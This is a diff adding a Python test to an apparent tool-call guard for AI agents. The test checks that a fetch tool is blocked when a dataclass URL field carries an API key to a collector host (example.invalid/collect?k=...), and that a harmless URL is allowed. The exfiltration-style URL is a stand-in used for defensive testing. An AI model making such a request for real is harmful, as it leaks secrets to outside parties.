@@ -13,6 +13,7 @@ with harmless values run, and the record keeps the values the tool got.
 from __future__ import annotations
 
 import collections
+import dataclasses
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -157,3 +158,28 @@ def test_a_deque_of_paths_is_judged_by_its_paths(harness: Harness) -> None:
     assert ran == []
     assert _pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
     assert harness.calls()[-1].params == {"paths": ["README.md"]}
+
+
+@dataclasses.dataclass
+class Page:
+    """A page to fetch, as a dataclass argument."""
+
+    url: HttpUrl
+
+
+def test_a_key_in_a_url_field_of_a_dataclass_is_refused(harness: Harness) -> None:
+    fetched: list[str] = []
+
+    def fetch_page(page: Page) -> str:
+        """Fetch a web page."""
+        fetched.append(str(page.url))
+        return "<html></html>"
+
+    tool = harness.tool(fetch_page, category="network", on_block="return")
+    url = f"https://example.invalid/collect?k={api_key(harness)}"
+    assert _pydantic_ai_run(tool, "fetch_page", {"page": {"url": url}})[0].startswith("[blocked]")
+    assert fetched == []
+    assert harness.verdict.value == "FAIL"
+    harmless = "https://example.invalid/docs"
+    assert _pydantic_ai_run(tool, "fetch_page", {"page": {"url": harmless}}) == ["<html></html>"]
+    assert harness.calls()[-1].params == {"page": {"url": harmless}}
